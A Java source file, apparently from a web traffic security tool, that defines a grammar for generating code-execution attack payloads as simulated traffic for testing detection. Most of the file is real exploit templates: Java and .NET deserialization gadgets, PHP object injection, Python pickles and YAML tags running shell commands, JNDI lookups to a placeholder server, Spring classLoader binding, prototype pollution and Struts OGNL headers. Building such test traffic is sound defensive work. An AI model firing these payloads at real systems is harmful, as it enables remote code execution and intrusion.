package ai.kongguard.traffic.attack;

import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Objects and property names that do harm as soon as they are read. */
final class ObjectGadgets {

    private static final Grammar GRAMMAR = Vocabulary.GRAMMAR.extend(
            """
            java_class ::=
              java.util.«HashMap¦PriorityQueue¦HashSet¦LinkedHashSet¦Hashtable¦ArrayList»
              javax.management.BadAttributeValueExpException
              sun.reflect.annotation.AnnotationInvocationHandler
              org.apache.commons.collections«?4».«map.LazyMap¦functors.InvokerTransformer¦keyvalue.TiedMapEntry»
              com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
              com.mchange.v2.c3p0.«PoolBackedDataSource¦impl.PoolBackedDataSourceBase»
              java.net.URL
              org.springframework.core.SerializableTypeWrapper
              «letters 2..3».«letters 3..9».«@upper «letters 1..1»»«letters 3..9»
            java_stream ::=
              6×rO0ABX«sr_class»
              rO0AB«alnum 40..160»«¦=¦==»
              aced0005«7372¦7571¦77»00«@hex «java_class»»«hex 20..90»
              H4sIAAAAAAAA«alnum 60..200»«¦=»
              %C2%AC%C3%AD%00%05sr%00«java_class»
            sr_class ::=
              NyAB«F¦E¦d¦c¦I»«@base64url «java_class»»«alnum 20..160»«¦=¦==»
            php_value ::=
              2×s:«@length «c:=unix_command»»:"«=c»";
              i:«0..999»;
              b:«0..1»;
              N;
              s:«@length «p:=letters 1..9»»:"«=p»";
              a:1:{i:0;s:2:"id";}
            php_object ::=
              6×O:«@length «c:=php_class»»:"«=c»":«1..3»:{«1..3×s:«@length «p:=letters 3..9»»:"«=p»";«php_value»»}
              2×a:«1..4»:{«1..2×i:«0..4»;O:«@length «c:=php_class»»:"«=c»":1:{s:«@length «p:=letters 3..9»»:"«=p»";«php_value»}»}
              C:«@length «c:=php_class»»:"«=c»":«1..99»:{«php_value»}
              O:+«@length «c:=php_class»»:"«=c»":1:{s:«@length «p:=letters 3..9»»:"«=p»";«php_value»}
              «php_encoded»
              O:8:"stdClass":«1..2»:{s:«@length «p:=letters 2..7»»:"«=p»";O:«@length «c:=php_class»»:"«=c»":0:{}}
              TzoxNjoi«@base64url «php_class»»«alnum 20..90»
            php_encoded ::=
              «@base64 O:«@length «c:=php_class»»:"«=c»":1:{s:4:"«letters 4..4»";s:2:"id";}»
            php_class ::=
              Monolog\\Handler\\«SyslogUdpHandler¦BufferHandler»
              GuzzleHttp\\«Psr7\\FnStream¦Cookie\\FileCookieJar»
              Illuminate\\Broadcasting\\PendingBroadcast
              «Swift_KeyCache_DiskKeyCache¦Requests_Utility_FilteredIterator¦SimplePie¦JDatabaseDriverMysqli¦Example¦User¦Logger»
              «@upper «letters 1..1»»«letters 3..9»
              Symfony\\Component\\Cache\\«letters 4..9»
              yii\\db\\BatchQueryResult
            python_object ::=
              2×c«os¦posix¦subprocess¦nt»«nl»«system¦popen¦check_output»«nl»(S'«unix_command»'«nl»tR.
              cos«nl»system«nl»(S'«unix_command»'«nl»tR.
              gAS«V¦W¦R¦U»«alnum 1..3»AAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA«@base64url «unix_command»»lIWUUpQu
              «@base64 cos«nl»system«nl»(S'«unix_command»'«nl»tR.»
              (dp0«nl»S'«word»'«nl»p1«nl»c__builtin__«nl»«eval¦exec»«nl»(S'«unix_command»'«nl»tR.
              gASV«alnum 30..120»lFKULg==
            dotnet_object ::=
              2×AAEAAAD/////AQAAAAAAAAAMAgAAA«alnum 40..160»«¦=¦==»
              /wEy«alnum 60..200»«¦=¦==»
              {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c «name»"]}}
              2×{"$type":"System.«Configuration.Install.AssemblyInstaller, System.Configuration.Install¦Security.Principal.WindowsIdentity, mscorlib¦IO.FileInfo, mscorlib»","«Path¦fileName¦«letters 3..6»»":"«url»"}
            ruby_object ::=
              BAhvOkBBY3RpdmVTdXBwb3J0«alnum 40..120»«¦=¦==»
              BAhbCGMVR2VtOjpTcGVjRmV0Y2hlcm«alnum 30..120»«¦==»
              BAhj«alnum 30..90»
            node_object ::=
              2×{"«name»":"_$$ND_FUNC$$_function(){require('child_process').exec('«letters 2..6»')}()"}
              _$$ND_FUNC$$_function (){require('child_process').exec('«unix_command»')}()
              «@base64 {"«name»":"_$$ND_FUNC$$_function(){require('child_process').exec('«unix_command»')}()"}»
            serialised ::=
              4×«java_stream»
              4×«php_object»
              2×«python_object»
              2×«dotnet_object»
              «ruby_object»
              «node_object»
            jndi_url ::=
              «ldap¦rmi»://«server»/«name»
            gadget ::=
              3×{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"«jndi_url»","autoCommit":true}
              2×{"«name»":{"@type":"«java.lang.Class¦java.lang.AutoCloseable»","val":"com.sun.rowset.JdbcRowSetImpl"},"«name»":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"«jndi_url»","autoCommit":true}}
              {"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"«jndi_url»","autoCommit":true}
              2×{"@type":"«java.net.Inet4Address¦java.net.InetSocketAddress¦java.net.URL»","val":"«host»"}
              {"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$«alnum 30..120»"}
              {"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAAD«alnum 40..160»"],"_name":"«name»","_tfactory":{},"_outputProperties":{}}
              {"@type":"org.apache.«ibatis.datasource.jndi.JndiDataSourceFactory¦shiro.jndi.JndiObjectFactory»","properties":{"data_source":"«jndi_url»"}}
              {"«name»":["«ch.qos.logback.core.db.DriverManagerConnectionSource¦com.mchange.v2.c3p0.JndiRefForwardingDataSource¦org.springframework.context.support.ClassPathXmlApplicationContext»",{"«url¦jndiName»":"«jndi_url»"}]}
              {"@class":"«java_class»","«name»":"«jndi_url»"}
              {"«name»":["org.springframework.context.support.«ClassPath¦FileSystem»XmlApplicationContext","«url»"]}
            yaml ::=
              2×!!python/object/«apply¦new»:«os.system¦subprocess.Popen¦subprocess.check_output¦builtins.eval¦time.sleep» ["«unix_command»"]
              2×!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["«url»"]]]]
              !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: '«jndi_url»', autoCommit: true}
              «name»: !!js/function 'function(){return «process.env¦require("child_process").execSync("id")»}'
              !!org.springframework.beans.factory.config.PropertyPathFactoryBean {targetBeanName: "«jndi_url»", propertyPath: «name»}
              - !ruby/object:Gem::«Installer¦SpecFetcher¦Requirement»«nl»    i: «letters 1..3»
              --- !ruby/object:«Gem::Requirement¦ERB¦ActionDispatch::Routing::RouteSet»«nl»«name»: «unix_command»
              !!python/«name:os.system¦module:os¦tuple» [«unix_command»]
              !<tag:yaml.org,2002:js/function> 'function(){«name»}'
            binding ::=
              3×class.module.classLoader.resources.context.parent.pipeline.first.«pattern=%25%7B«name»%7Di¦suffix=.jsp¦directory=webapps/ROOT¦prefix=«name»¦fileDateFormat=»
              2×class.«?module.»classLoader.«DefaultAssertionStatus=«word»¦URLs[0]=«url»¦resources.dirContext.docBase=//«server»/«name»»
              class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22«letters 1..4»%22.equals(request.getParameter(%22«name»%22)))&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp
              4×__proto__[«polluted»]=«value»
              2×«constructor[prototype]¦constructor.prototype¦__proto__¦«name»[__proto__]¦__pro__proto__to__¦__proto__[__proto__]»[«polluted»]=«value»
              «constructor.prototype¦__proto__».«polluted»=«word»
              «redirect¦action¦redirectAction»:${«#a=new java.lang.ProcessBuilder(new java.lang.String[]{'id'})¦«2..99»*«2..99»»}=
              user[password][$«class¦type»]=«word»
              _method=__construct&filter[]=«system¦assert¦phpinfo»&method=get&server[REQUEST_METHOD]=«id¦whoami¦«letters 1..5»»
              «?«name»=«word»&»_class.classLoader.«name»=«word»
              cmd=«unix_command»&«name»=«0..9»
              mail[#«post_render¦pre_render¦markup»][]=«exec¦system¦passthru»&mail[#type]=markup&mail[#markup]=«unix_command»
              redirectUri=${T(java.lang.Runtime).getRuntime().exec("«name»")}
            polluted ::=
              isAdmin
              admin
              polluted
              role
              status
              outputFunctionName
              shell
              NODE_OPTIONS
              env
              toString
              sourceURL
              «letters 3..8»
            pollution ::=
              3×{"__proto__":{"«polluted»":«"«word»"¦true¦1¦{}»}}
              2×{"constructor":{"prototype":{"«polluted»":«"«word»"¦true¦1»}}}
              2×{"«name»":"«word»","__proto__":{"«polluted»":«"«word»"¦true¦null»}}
              {"«name»":{"__proto__":{"«polluted»":"«word»"}}}
              {"__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('«letters 2..6»');x"}}
              {"__proto__":{"shell":"«/bin/sh¦node»","NODE_OPTIONS":"--«require¦inspect»=«/proc/self/environ¦«host»»","argv0":"«name»"}}
            content_type ::=
              3×%{(#«n:=letters 1..6»='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#c=#context['com.opensymphony.xwork2.ActionContext.container']).(#o=#c.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#context.setMemberAccess(#dm)))).(#cmd='«unix_command»').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}
              %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('«name»',«2..99»*«2..99»)}.multipart/form-data
              %{(#_='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('«unix_command»'))}
              «?text/plain; »${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("«unix_command»").getInputStream(),"utf-8"))}
              ${«2..99»*«2..99»}«?.multipart/form-data»
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            CodeExecution.family(GRAMMAR, "serialised_object", "serialised")
                    .in(
                            Placement.COOKIE,
                            Placement.COOKIE,
                            Placement.FORM,
                            Placement.JSON,
                            Placement.QUERY,
                            Placement.HEADER,
                            Placement.MULTIPART),
            CodeExecution.family(GRAMMAR, "type_gadget", "gadget")
                    .in(
                            Placement.JSON_BODY,
                            Placement.JSON_BODY,
                            Placement.JSON_VALUE,
                            Placement.FORM,
                            Placement.QUERY),
            CodeExecution.family(GRAMMAR, "property_binding", "binding")
                    .in(Placement.QUERY_PAIRS, Placement.QUERY_PAIRS, Placement.FORM_PAIRS),
            CodeExecution.family(GRAMMAR, "prototype_pollution", "pollution")
                    .in(Placement.JSON_BODY, Placement.JSON_BODY, Placement.JSON_VALUE, Placement.QUERY),
            CodeExecution.family(GRAMMAR, "ognl_content_type", "content_type").in(Placement.CONTENT_TYPE),
            CodeExecution.family(GRAMMAR, "yaml_tag", "yaml")
                    .in(Placement.FORM, Placement.JSON, Placement.MULTIPART, Placement.QUERY)
                    .reservedForSimulation());

    private ObjectGadgets() {}
}
